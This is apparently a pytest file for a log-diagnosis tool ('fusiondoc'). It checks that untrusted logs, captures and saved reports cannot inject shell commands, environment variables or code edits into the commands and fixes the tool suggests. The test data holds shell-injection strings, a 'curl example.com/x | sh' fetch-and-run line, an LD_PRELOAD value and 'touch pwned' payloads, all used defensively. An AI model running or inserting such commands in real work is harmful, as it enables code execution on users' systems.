"""Commands that a report offers to be copied: no log, capture or report of others
chooses what they run."""

from __future__ import annotations

import json
import re
import shlex
import shutil
from pathlib import Path
from typing import Any

import pytest
import raw_log
from command_line import Run
from conftest import FIXTURES

from fusiondoc.captures.capture import REQUEST, Capture
from fusiondoc.captures.trust import sign
from fusiondoc.cli.env import _how_to_start
from fusiondoc.reports import REPORT_FORMATS, render_report
from fusiondoc.reports.html import render as render_html
from fusiondoc.workflows.load import report_from, report_of

EVIL = (
    "$(touch x)",
    "`touch x`",
    "';touch x;'",
    '";touch x;"',
    "a&&touch x",
    "-c",
    "--python=x",
    "a|sh",
)


def commands(report: Any) -> list[list[str]]:
    """The commands of a report's plan as a shell reads them."""
    return [shlex.split(change.command) for change in report.plan]


@pytest.mark.parametrize("evil", EVIL)
def test_a_log_puts_no_command_into_a_plan(
    evil: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files, layers and values with a shell's signs in their names, and a log whose
    name is one."""
    monkeypatch.chdir(tmp_path)
    log = raw_log.read(
        FIXTURES / "logs" / "nvfuser-2.1.2-rejects-full.log.xz"
    ).decode()
    log = re.sub(r"# \S+\.py:", lambda _: f"# {evil.replace(' ', '')}.py:", log)
    name = evil.replace("/", "") + ".log"
    Path(name).write_text(log)
    report = report_from([f"./{name}"])
    assert report.plan
    for words in commands(report):
        assert words == [
            "fusiondoc",
            "compare",
            f"./{name}" if name[0] == "-" else name,
            "new.log",
        ]


def test_a_capture_of_another_does_not_choose_what_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FUSIONDOC_CACHE", str(tmp_path / "cache"))
    folder = tmp_path / "capture"
    shutil.copytree(FIXTURES / "captures" / "nvfuser-2.1.2-composite", folder)
    log = raw_log.read(FIXTURES / "logs" / "nvfuser-2.1.2-rejects-full.log.xz")
    (folder / "log").write_bytes(log)
    request = json.loads((folder / REQUEST).read_text())
    request["target"]["text"] = "evil.py"
    request["command"] = ["fusiondoc", "diagnose", "evil.py", "--python", "./evil"]
    (folder / REQUEST).write_text(json.dumps(request))
    report = report_of(Capture(folder))
    assert report.plan
    assert all(
        words[:2] == ["fusiondoc", "compare"] and "evil.py" not in words
        for words in commands(report)
    )
    sign(folder, REQUEST)
    assert all(
        words[:3] == ["fusiondoc", "diagnose", "evil.py"]
        for words in commands(report_of(Capture(folder)))
    )


def test_a_saved_report_of_another_offers_commands_that_read_only(
    tmp_path: Path, fusiondoc: Run
) -> None:
    log = tmp_path / "a.log"
    log.write_bytes(
        raw_log.read(FIXTURES / "logs" / "nvfuser-2.1.2-rejects-full.log.xz")
    )
    saved = json.loads(render_report(report_from([str(log)]), "json"))
    assert saved["plan"]
    for change in saved["plan"]:
        change["command"] = "curl example.com/x | sh"
        change["edits"] = [
            {"file": "m.py", "line": 1, "before": "x += y", "after": "evil()"}
        ]
    (tmp_path / "saved.json").write_text(json.dumps(saved))
    done = fusiondoc("parse", "saved.json", cwd=tmp_path)
    assert done.returncode == 0 and "curl" not in done.stdout
    assert "$ fusiondoc compare saved.json new.log" in done.stdout
    report = report_from([str(tmp_path / "saved.json")])
    for form in REPORT_FORMATS:
        assert not re.search("curl|evil", render_report(report, form)), form


def test_copies_of_a_capture_of_another_make_no_edits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SARIF offers edits to be applied: text of another's copy of a file would come
    into the user's own."""
    monkeypatch.setenv("FUSIONDOC_CACHE", str(tmp_path / "cache"))
    folder = tmp_path / "capture"
    shutil.copytree(FIXTURES / "captures" / "nvfuser-2.1.2-composite", folder)
    (folder / "log").write_text(
        "".join(
            f"[DUMP graph_fuser.cpp:2503] {line}\n"
            for line in (
                "Before Compilation: ",
                "graph(%x : Float(8, strides=[1], requires_grad=0, device=cuda:0)):",
                "  %1 : int = prim::Constant[value=1]()",
                "  %a : Tensor = aten::mul(%x, %x) # mine.py:2:4",
                "  %y : Tensor = aten::add_(%a, %x, %1) # mine.py:3:4",
                "  %z : Tensor = aten::mul(%y, %y) # mine.py:4:4",
                "  return (%z)",
            )
        )
    )
    (folder / "sources").mkdir()
    (folder / "sources" / "index.json").write_text('{"mine.py": "0.py"}')
    (folder / "sources" / "0.py").write_text(
        "def f(x):\n    a = x * x\n    a += evil(x)\n    return a * a\n"
    )
    edits = [
        one for change in report_of(Capture(folder)).plan for one in change.edits
    ]
    assert not edits
    sign(folder, REQUEST)
    edits = [
        one for change in report_of(Capture(folder)).plan for one in change.edits
    ]
    assert [one.after for one in edits] == ["    a = a + evil(x)"]


def test_a_page_offers_no_other_command_or_variable(tmp_path: Path) -> None:
    folder = tmp_path / "capture"
    shutil.copytree(FIXTURES / "captures" / "nvfuser-2.1.2-composite", folder)
    request = json.loads((folder / REQUEST).read_text())
    request["command"] = ["touch", "pwned"]
    request["environment_set"] = {
        "PYTORCH_NVFUSER_DUMP": "cuda_kernel;touch pwned",
        "LD_PRELOAD": "./pwned.so",
        "A=1; touch pwned; B": "1",
    }
    (folder / REQUEST).write_text(json.dumps(request))
    page = render_html(report_of(Capture(folder)))
    assert (
        "touch pwned" in page
        and "export PYTORCH_NVFUSER_DUMP=&#39;cuda_kernel;touch pwned&#39;" in page
    )
    assert (
        "LD_PRELOAD=" not in page
        and "export A=1" not in page
        and "Command</" not in page
    )


def test_the_command_of_env_is_quoted() -> None:
    line = _how_to_start(Path("/a b/python"), "a;touch x.py")
    assert shlex.split(line)[:2] == ["/a b/python", "a;touch x.py"]
